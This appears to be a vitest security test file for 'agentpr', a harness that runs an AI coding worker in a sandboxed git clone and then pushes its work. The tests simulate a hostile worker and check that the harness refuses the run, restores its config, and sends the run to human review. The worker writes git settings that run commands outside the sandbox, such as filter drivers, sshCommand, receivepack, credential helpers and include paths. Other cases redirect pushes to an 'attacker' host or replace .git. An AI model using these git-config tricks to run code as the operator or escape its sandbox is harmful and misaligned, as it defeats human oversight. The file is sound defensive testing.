import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync, renameSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import { git } from '../helpers/git.js';
import { dbFingerprint } from '../helpers/db.js';
import { connectInMemory, textOf, type ToolCallResult } from '../helpers/mcp.js';
import { makeHarness, ok, preparedRun, scenario, toImplementing, type Harness } from '../worker/harness.js';

/**
 * The worker can write anywhere in the clone, .git included; agentpr's own git runs there later,
 * outside the sandbox. Each case writes what a hostile worker would, then goes through run-finish
 * (or the agent step) and checks that the worker's command never ran as the operator and that the
 * push went to the fork run-prepare recorded.
 */

let h: Harness | undefined;
let closeClient: (() => Promise<void>) | undefined;
afterEach(async () => {
  await closeClient?.();
  closeClient = undefined;
  await h?.cleanup();
  h = undefined;
});

/** A script that leaves a marker when it runs (and passes stdin through, so it also works as a filter). */
function markerScript(h: Harness, name: string): { script: string; marker: string } {
  const marker = join(h.tmp, `ran-${name}`);
  const script = join(h.tmp, `evil-${name}.sh`);
  writeFileSync(script, `#!/bin/sh\necho "$0 $*" >> '${marker}'\ncat\nexit 0\n`);
  chmodSync(script, 0o755);
  return { script, marker };
}

/** A prepared run moved to LOCAL_VALIDATING with a real change in the clone, as the worker leaves it. */
async function readyToFinish(h: Harness): Promise<{ runId: string; workspace: string }> {
  const { runId, workspace } = await preparedRun(h);
  for (const e of ['worker.discovery.completed', 'command.start.implementation', 'command.local.validation.passed'] as const) {
    h.app.service.applyEvent({ run_id: runId, event_type: e, ...(e === 'worker.discovery.completed' ? { payload: { contract_path: '/c.md' } } : {}) });
  }
  writeFileSync(join(workspace, 'src', 'greeting.txt'), 'hello, world\n');
  return { runId, workspace };
}

function branchOn(bare: string, branch: string): string | null {
  const out = git(bare, ['for-each-ref', '--format=%(objectname)', `refs/heads/${branch}`]);
  return out || null;
}

const WORKER_KEYS = /filter|include|attacker|receivepack|uploadpack|credential|pager|editor|attributesfile|sshcommand|textconv/i;

const appendConfig = (ws: string, text: string) => writeFileSync(join(ws, '.git', 'config'), `${readFileSync(join(ws, '.git', 'config'), 'utf8')}${text}`);

describe('run-finish: a worker-written .git/config runs nothing of the worker and pushes nowhere else', () => {
  const cases: Array<{ name: string; write: (ws: string, cmd: string, h: Harness) => void; key: RegExp }> = [
    {
      name: 'filter clean driver + .gitattributes (runs on git add / status / diff)',
      write: (ws, cmd) => {
        appendConfig(ws, `[filter "x"]\n\tclean = ${cmd}\n\tsmudge = ${cmd}\n`);
        writeFileSync(join(ws, '.gitattributes'), '* filter=x\n');
      },
      key: /filter\.x\.clean/,
    },
    {
      name: 'filter driver named in .git/info/attributes',
      write: (ws, cmd) => {
        appendConfig(ws, `[filter "x"]\n\tclean = ${cmd}\n`);
        mkdirSync(join(ws, '.git', 'info'), { recursive: true });
        writeFileSync(join(ws, '.git', 'info', 'attributes'), '* filter=x\n');
      },
      key: /filter\.x\.clean/,
    },
    {
      name: 'core.attributesFile pointing at a worker-written file',
      write: (ws, cmd) => {
        writeFileSync(join(ws, '.git', 'attrs'), '* filter=x\n');
        appendConfig(ws, `[core]\n\tattributesFile = ${join(ws, '.git', 'attrs')}\n[filter "x"]\n\tclean = ${cmd}\n`);
      },
      key: /core\.attributesfile/,
    },
    {
      name: 'include.path to a worker-written config',
      write: (ws, cmd) => {
        writeFileSync(join(ws, '.git', 'evil.inc'), `[filter "x"]\n\tclean = ${cmd}\n`);
        writeFileSync(join(ws, '.gitattributes'), '* filter=x\n');
        appendConfig(ws, `[include]\n\tpath = evil.inc\n`);
      },
      key: /include\.path/,
    },
    {
      name: 'includeIf to a worker-written config',
      write: (ws, cmd) => {
        writeFileSync(join(ws, '.git', 'evil.inc'), `[filter "x"]\n\tclean = ${cmd}\n`);
        writeFileSync(join(ws, '.gitattributes'), '* filter=x\n');
        appendConfig(ws, `[includeIf "gitdir:/"]\n\tpath = ${join(ws, '.git', 'evil.inc')}\n`);
      },
      key: /includeif\.gitdir:\/\.path/,
    },
    {
      name: 'remote.origin.receivepack (runs on push)',
      write: (ws, cmd) => appendConfig(ws, `[remote "origin"]\n\treceivepack = ${cmd}\n`),
      key: /remote\.origin\.receivepack/,
    },
    {
      name: 'url.insteadOf sending the fork to ssh + core.sshCommand',
      write: (ws, cmd, h) => appendConfig(ws, `[url "ssh://attacker.invalid/x.git"]\n\tinsteadOf = ${h.forge.forkUrl}\n[core]\n\tsshCommand = ${cmd}\n`),
      key: /url\.ssh:\/\/attacker\.invalid\/x\.git\.insteadof/,
    },
    {
      name: 'diff textconv, pager, editor and credential helper',
      write: (ws, cmd) => {
        appendConfig(ws, `[diff "x"]\n\ttextconv = ${cmd}\n[core]\n\tpager = ${cmd}\n\teditor = ${cmd}\n[credential]\n\thelper = !${cmd}\n`);
        writeFileSync(join(ws, '.gitattributes'), '* diff=x\n');
      },
      key: /credential\.helper/,
    },
  ];

  for (const c of cases) {
    test(c.name, async () => {
      h = makeHarness();
      const { runId, workspace } = await readyToFinish(h);
      const prepared = readFileSync(join(workspace, '.git', 'config'), 'utf8');
      const { script, marker } = markerScript(h, 'x');
      c.write(workspace, script, h);

      const r = ok(await h.call('run-finish', { run_id: runId, changes: 'Greet the world' }));
      expect(existsSync(marker) ? readFileSync(marker, 'utf8') : '').toBe('');
      expect(r).toMatchObject({ ok: true, state: 'PUSHED' });
      // Reported, not silently accepted; and .git/config is again what run-prepare wrote.
      expect((r.git_warnings as string[]).join('\n')).toMatch(c.key);
      const after = readFileSync(join(workspace, '.git', 'config'), 'utf8');
      expect(after).not.toContain(script);
      expect(after).not.toMatch(WORKER_KEYS);
      // finish's own push -u adds the branch's tracking on top of what run-prepare wrote; nothing else.
      expect(after.startsWith(prepared)).toBe(true);
      const head = (r.outputs as Record<string, string>).head_sha!;
      expect(branchOn(h.forge.forkDir, (r.outputs as Record<string, string>).branch!)).toBe(head);
      // The pushed content is the worker's text, not what a filter made of it.
      expect(git(h.forge.forkDir, ['show', `${head}:src/greeting.txt`])).toBe('hello, world');
    });
  }

  test('remote.origin.url / pushurl pointing at another repository: the push goes to the recorded fork', async () => {
    h = makeHarness();
    const { runId, workspace } = await readyToFinish(h);
    const attacker = join(h.tmp, 'attacker.git');
    git(h.tmp, ['init', '-q', '--bare', attacker]);
    git(workspace, ['remote', 'set-url', 'origin', attacker]);
    git(workspace, ['config', 'remote.origin.pushurl', attacker]);

    const r = ok(await h.call('run-finish', { run_id: runId, changes: 'Greet the world' }));
    expect(r).toMatchObject({ ok: true, state: 'PUSHED' });
    expect((r.git_warnings as string[]).join('\n')).toMatch(/remote\.origin\.pushurl/);
    const branch = (r.outputs as Record<string, string>).branch!;
    expect(branchOn(h.forge.forkDir, branch)).toBe((r.outputs as Record<string, string>).head_sha);
    expect(git(attacker, ['for-each-ref'])).toBe('');
  });

  const refusals: Array<{ name: string; write: (ws: string, h: Harness) => void; reason: RegExp }> = [
    {
      name: '.git replaced by a gitfile (gitdir: /elsewhere)',
      write: (ws, h) => {
        const elsewhere = join(h.tmp, 'elsewhere.git');
        renameSync(join(ws, '.git'), elsewhere);
        writeFileSync(join(ws, '.git'), `gitdir: ${elsewhere}\n`);
      },
      reason: /^git_dir_replaced: .*\.git is a file \("gitdir: /,
    },
    {
      name: '.git replaced by a symlink',
      write: (ws, h) => {
        const elsewhere = join(h.tmp, 'elsewhere.git');
        renameSync(join(ws, '.git'), elsewhere);
        symlinkSync(elsewhere, join(ws, '.git'));
      },
      reason: /^git_dir_replaced: .*\.git is a symlink/,
    },
    {
      name: '.git removed (git would find a repository above the clone)',
      write: (ws) => rmSync(join(ws, '.git'), { recursive: true, force: true }),
      reason: /^git_dir_replaced: .*\.git is missing/,
    },
    {
      name: 'objects/info/alternates pointing at another object store',
      write: (ws, h) => writeFileSync(join(ws, '.git', 'objects', 'info', 'alternates'), `${join(h.forge.upstreamDir, 'objects')}\n`),
      reason: /^git_dir_redirected: .*objects\/info\/alternates was written/,
    },
    {
      name: 'commondir sending config and refs elsewhere',
      write: (ws, h) => {
        const other = join(h.tmp, 'other.git');
        git(h.tmp, ['init', '-q', '--bare', other]);
        writeFileSync(join(ws, '.git', 'commondir'), `${other}\n`);
      },
      reason: /^git_dir_redirected: .*commondir was written/,
    },
    {
      name: '.git/info replaced by a symlink',
      write: (ws, h) => {
        const other = join(h.tmp, 'info-elsewhere');
        mkdirSync(other);
        writeFileSync(join(other, 'attributes'), '* filter=x\n');
        rmSync(join(ws, '.git', 'info'), { recursive: true, force: true });
        symlinkSync(other, join(ws, '.git', 'info'));
      },
      reason: /^git_dir_replaced: .*\.git\/info is a symlink/,
    },
  ];

  for (const c of refusals) {
    test(`${c.name}: refused with a reason, nothing changed, nothing pushed`, async () => {
      h = makeHarness();
      const { runId, workspace } = await readyToFinish(h);
      c.write(workspace, h);
      const before = dbFingerprint(h.app.db);
      const r = await h.call('run-finish', { run_id: runId, changes: 'Greet the world' });
      expect(r.ok).toBe(false);
      if (r.ok) return;
      expect(r.code).toBe('refused');
      expect(r.error).toMatch(c.reason);
      expect(r.error).toMatch(/nothing was changed\. .*run-prepare/);
      expect(dbFingerprint(h.app.db)).toBe(before);
      expect(h.app.service.getRun(runId).state).toBe('LOCAL_VALIDATING');
      expect(git(h.forge.forkDir, ['for-each-ref', '--format=%(refname)', 'refs/heads/feature'])).toBe('');
    });
  }
});

describe('a repository nested in the clone (a submodule the worker checked out) cannot run its settings through our git', () => {
  /** A repository at vendor/lib with a filter in its own config, added to the clone's index as a gitlink, with a dirty file. */
  function nestedWithFilter(ws: string, cmd: string): void {
    const lib = join(ws, 'vendor', 'lib');
    mkdirSync(lib, { recursive: true });
    git(lib, ['init', '-q', '-b', 'main']);
    writeFileSync(join(lib, 'f.txt'), 'one\n');
    git(lib, ['add', '-A']);
    git(lib, ['commit', '-q', '-m', 'lib']);
    git(lib, ['config', 'filter.x.clean', cmd]);
    writeFileSync(join(lib, '.gitattributes'), '* filter=x\n');
    writeFileSync(join(lib, 'f.txt'), 'two\n');
    git(ws, ['add', 'vendor/lib']);
  }

  test('run-finish refuses with nested_git_config; the filter never runs, nothing is pushed', async () => {
    h = makeHarness();
    const { runId, workspace } = await readyToFinish(h);
    const { script, marker } = markerScript(h, 'nested');
    nestedWithFilter(workspace, script);
    const r = await h.call('run-finish', { run_id: runId, changes: 'Greet the world' });
    expect(existsSync(marker)).toBe(false);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error).toMatch(/^nested_git_config: the repository at vendor\/lib has git settings that run commands \(filter\.x\.clean\)/);
    expect(h.app.service.getRun(runId).state).toBe('LOCAL_VALIDATING');
    expect(git(h.forge.forkDir, ['for-each-ref', '--format=%(refname)', 'refs/heads/feature'])).toBe('');
  });

  test('a plain nested repository (no such settings) is pushed as usual', async () => {
    h = makeHarness();
    const { runId, workspace } = await readyToFinish(h);
    const lib = join(workspace, 'vendor', 'plain');
    mkdirSync(lib, { recursive: true });
    git(lib, ['init', '-q', '-b', 'main']);
    writeFileSync(join(lib, 'f.txt'), 'one\n');
    git(lib, ['add', '-A']);
    git(lib, ['commit', '-q', '-m', 'lib']);
    const r = ok(await h.call('run-finish', { run_id: runId, changes: 'Greet the world' }));
    expect(r).toMatchObject({ ok: true, state: 'PUSHED' });
  });

  test('the agent step: a worker that checks out such a repository gets HUMAN_REVIEW, and our status/diff never run its filter', async () => {
    h = makeHarness();
    const { runId } = await preparedRun(h);
    await toImplementing(h, runId);
    const { script, marker } = markerScript(h, 'nested-agent');
    const base = JSON.parse(readFileSync(scenario('implement-pass'), 'utf8')) as Record<string, unknown>;
    const sc = join(h.tmp, 'nested.json');
    const id = '-c user.name=w -c user.email=w@w';
    writeFileSync(
      sc,
      JSON.stringify({
        ...base,
        line_delay_ms: 0,
        commands: [
          `mkdir -p vendor/lib && cd vendor/lib && git init -q -b main && echo one > f.txt && git add -A && git ${id} commit -qm lib && git config filter.x.clean '${script}' && echo '* filter=x' > .gitattributes && echo two > f.txt`,
          `git add vendor/lib`,
          // What the worker's own git ran inside its sandbox is not the question: clear the marker.
          `rm -f '${marker}'`,
        ],
      }),
    );
    h.setEnv({ FAKE_CODEX_SCENARIO: sc });
    const r = ok(await h.call('run-agent-step', { run_id: runId, prompt: 'Add the greeting.' }));
    expect(existsSync(marker)).toBe(false);
    expect(r).toMatchObject({ grade: 'HUMAN_REVIEW', reason_code: 'git_metadata_tampered', state_after: 'NEEDS_HUMAN_REVIEW' });
    expect((r.evidence as string[]).join('\n')).toMatch(/nested_git_config: .*vendor\/lib/);
    // The next call that would run our git in the clone refuses instead.
    const again = await h.call('run-preflight', { run_id: runId });
    expect(again.ok).toBe(false);
    if (!again.ok) expect(again.error).toMatch(/^nested_git_config/);
    expect(existsSync(marker)).toBe(false);
  });
});

describe('run-prepare on a reused clone puts back what a worker wrote before its own git runs', () => {
  test('remote.origin.uploadpack (runs on fetch) does not run', async () => {
    h = makeHarness();
    const { runId, workspace } = await preparedRun(h);
    const prepared = readFileSync(join(workspace, '.git', 'config'), 'utf8');
    const { script, marker } = markerScript(h, 'uploadpack');
    appendConfig(workspace, `[remote "origin"]\n\tuploadpack = ${script}\n[remote "upstream"]\n\tuploadpack = ${script}\n`);
    const r = ok(await h.call('run-prepare', { run_id: runId }));
    expect(existsSync(marker)).toBe(false);
    expect(r).toMatchObject({ ok: true, state: 'DISCOVERY' });
    expect((r.git_warnings as string[]).join('\n')).toMatch(/remote\.origin\.uploadpack/);
    const after = readFileSync(join(workspace, '.git', 'config'), 'utf8');
    expect(after).not.toContain(script);
    expect(after.replace(/\[branch "main"\]\n\tremote = \w+/, '')).toBe(prepared.replace(/\[branch "main"\]\n\tremote = \w+/, ''));
  });
});

describe("the agent step: what the worker writes into .git is undone before agentpr's change detection, and is the verdict", () => {
  function hostileScenario(h: Harness, commands: string[]): string {
    const base = JSON.parse(readFileSync(scenario('implement-pass'), 'utf8')) as Record<string, unknown>;
    const path = join(h.tmp, 'hostile.json');
    writeFileSync(path, JSON.stringify({ ...base, line_delay_ms: 0, commands }));
    return path;
  }

  test('a filter driver, a textconv and .gitattributes written by the worker: nothing runs, config restored, HUMAN_REVIEW git_metadata_tampered', async () => {
    h = makeHarness();
    const { runId, workspace } = await preparedRun(h);
    await toImplementing(h, runId);
    const prepared = readFileSync(join(workspace, '.git', 'config'), 'utf8');
    const { script, marker } = markerScript(h, 'agent');
    h.setEnv({
      FAKE_CODEX_SCENARIO: hostileScenario(h, [
        `git config filter.x.clean '${script}'`,
        `git config diff.x.textconv '${script}'`,
        `printf '* filter=x diff=x\\n' > .gitattributes`,
      ]),
    });
    const r = ok(await h.call('run-agent-step', { run_id: runId, prompt: 'Add the greeting.' }));
    expect(existsSync(marker) ? readFileSync(marker, 'utf8') : '').toBe('');
    expect(r).toMatchObject({ grade: 'HUMAN_REVIEW', reason_code: 'git_metadata_tampered', state_after: 'NEEDS_HUMAN_REVIEW' });
    expect((r.evidence as string[]).join('\n')).toMatch(/filter\.x\.clean/);
    expect(readFileSync(join(workspace, '.git', 'config'), 'utf8')).toBe(prepared);
    const report = JSON.parse(readFileSync(h.app.service.latestArtifact(runId, 'agent_runtime_report')!.uri, 'utf8')) as { git_guard: { after: string[]; restored: string[] } };
    expect(report.git_guard.restored).toContain('.git/config');
    expect(report.git_guard.after.join('\n')).toMatch(/diff\.x\.textconv/);
  });

  test('the worker replaces .git by a gitfile: no git of agentpr runs there, HUMAN_REVIEW with git_dir_replaced', async () => {
    h = makeHarness();
    const { runId, workspace } = await preparedRun(h);
    await toImplementing(h, runId);
    const elsewhere = join(h.tmp, 'moved.git');
    h.setEnv({ FAKE_CODEX_SCENARIO: hostileScenario(h, [`mv .git '${elsewhere}' && printf 'gitdir: ${elsewhere}\\n' > .git`]) });
    const r = ok(await h.call('run-agent-step', { run_id: runId, prompt: 'Add the greeting.' }));
    expect(r).toMatchObject({ grade: 'HUMAN_REVIEW', reason_code: 'git_metadata_tampered', state_after: 'NEEDS_HUMAN_REVIEW' });
    expect((r.evidence as string[]).join('\n')).toMatch(/git_dir_replaced: .*\.git is a file/);
    expect(existsSync(join(workspace, '.git'))).toBe(true);
  });

  test('a worker that only commits (no .git settings) is not flagged', async () => {
    h = makeHarness();
    const { runId } = await preparedRun(h);
    await toImplementing(h, runId);
    h.setEnv({ FAKE_CODEX_SCENARIO: scenario('implement-pass') });
    const r = ok(await h.call('run-agent-step', { run_id: runId, prompt: 'Add the greeting.' }));
    expect(r).toMatchObject({ grade: 'PASS' });
  });
});

describe('through the real MCP client', () => {
  test('run-finish after a worker wrote a filter driver and redirected the push: nothing of it runs, the push goes to the fork, the client sees the warning', async () => {
    h = makeHarness();
    const c = await connectInMemory(h.app);
    closeClient = c.close;
    const call = async (name: string, args: Record<string, unknown>) => {
      const r = (await c.client.callTool({ name, arguments: args })) as ToolCallResult;
      expect(r.isError, `${name}: ${textOf(r)}`).toBeFalsy();
      return r;
    };
    const runId = ((await call('create-run', { owner: 'octo', repo: 'demo' })).structuredContent!.run as { run_id: string }).run_id;
    expect((await call('run-prepare', { run_id: runId })).structuredContent!.state).toBe('DISCOVERY');
    const workspace = h.app.service.getRun(runId).workspace_dir;
    for (const e of ['worker.discovery.completed', 'command.start.implementation', 'command.local.validation.passed'] as const) {
      h.app.service.applyEvent({ run_id: runId, event_type: e, ...(e === 'worker.discovery.completed' ? { payload: { contract_path: '/c.md' } } : {}) });
    }
    writeFileSync(join(workspace, 'src', 'greeting.txt'), 'hello, world\n');
    const { script, marker } = markerScript(h, 'mcp');
    const attacker = join(h.tmp, 'attacker.git');
    git(h.tmp, ['init', '-q', '--bare', attacker]);
    appendConfig(workspace, `[filter "x"]\n\tclean = ${script}\n[remote "origin"]\n\tpushurl = ${attacker}\n`);
    writeFileSync(join(workspace, '.gitattributes'), '* filter=x\n');

    const r = await call('run-finish', { run_id: runId, changes: 'Greet the world' });
    expect(existsSync(marker)).toBe(false);
    const out = r.structuredContent as { state: string; outputs: Record<string, string>; git_warnings: string[] };
    expect(out.state).toBe('PUSHED');
    expect(out.git_warnings.join('\n')).toMatch(/filter\.x\.clean.*remote\.origin\.pushurl|remote\.origin\.pushurl/);
    expect(textOf(r)).toMatch(/warning: \.git\/config changed since run-prepare/);
    expect(branchOn(h.forge.forkDir, out.outputs.branch!)).toBe(out.outputs.head_sha);
    expect(git(attacker, ['for-each-ref'])).toBe('');
  });
});

describe('a clone agentpr has no record of', () => {
  test('plain keys only: accepted once and recorded; a filter key: git_config_untrusted, nothing changed', async () => {
    h = makeHarness();
    const { runId, workspace } = await readyToFinish(h);
    // As if prepared by an older agentpr: no record in the data home.
    rmSync(join(h.app.config.home, 'git-baselines', `${runId}.json`));
    const { script, marker } = markerScript(h, 'untrusted');
    appendConfig(workspace, `[filter "x"]\n\tclean = ${script}\n`);
    writeFileSync(join(workspace, '.gitattributes'), '* filter=x\n');
    const before = dbFingerprint(h.app.db);
    const refused = await h.call('run-finish', { run_id: runId, changes: 'Greet the world' });
    expect(refused.ok).toBe(false);
    if (!refused.ok) expect(refused.error).toMatch(/^git_config_untrusted: .*\(filter\.x\.clean\) and agentpr recorded no config for run/);
    expect(dbFingerprint(h.app.db)).toBe(before);
    expect(existsSync(marker)).toBe(false);

    git(workspace, ['config', '--unset', 'filter.x.clean']);
    const r = ok(await h.call('run-finish', { run_id: runId, changes: 'Greet the world' }));
    expect(r).toMatchObject({ ok: true, state: 'PUSHED' });
    expect(existsSync(join(h.app.config.home, 'git-baselines', `${runId}.json`))).toBe(true);
  });
});
